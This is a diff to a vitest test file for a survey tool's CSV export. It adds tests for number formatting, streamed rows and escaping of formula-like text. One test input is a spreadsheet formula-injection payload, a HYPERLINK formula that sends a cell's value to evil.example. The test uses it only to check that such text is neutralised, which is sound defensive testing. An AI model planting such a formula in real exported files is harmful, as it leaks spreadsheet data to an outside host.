@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { csvDocument, csvField } from '../../surveys/csv.ts'
+import { csvDocument, csvField, csvHeader, csvRow, fixed } from '../../surveys/csv.ts'
 
 describe('csv', () => {
   test('quotes commas, quotes and line breaks, doubling quotes (RFC 4180)', () => {
@@ -19,6 +19,21 @@ describe('csv', () => {
     expect(csvField('-2,"x"')).toBe('"\'-2,""x"""')
     // Numbers are data, not text someone typed.
     expect(csvField(-2)).toBe('-2')
+    expect(csvField(fixed(-1.5, 2))).toBe('-1.50')
+    expect(csvField(fixed(null, 2))).toBe('')
+    // The same characters typed as text are guarded.
+    expect(csvField('-1.50')).toBe("'-1.50")
+    expect(csvField('-1+HYPERLINK("http://evil.example/?q="&C3,"…")')).toBe(
+      '"\'-1+HYPERLINK(""http://evil.example/?q=""&C3,""…"")"',
+    )
+  })
+
+  test('a file streams as csvHeader then one csvRow per record, equal to csvDocument', () => {
+    const rows = [
+      ['a', 1],
+      ['@b', fixed(2, 1)],
+    ]
+    expect(csvHeader(['x', 'y']) + rows.map(csvRow).join('')).toBe(csvDocument(['x', 'y'], rows))
   })
 
   test('a document starts with a byte-order mark and ends every record with CRLF', () => {
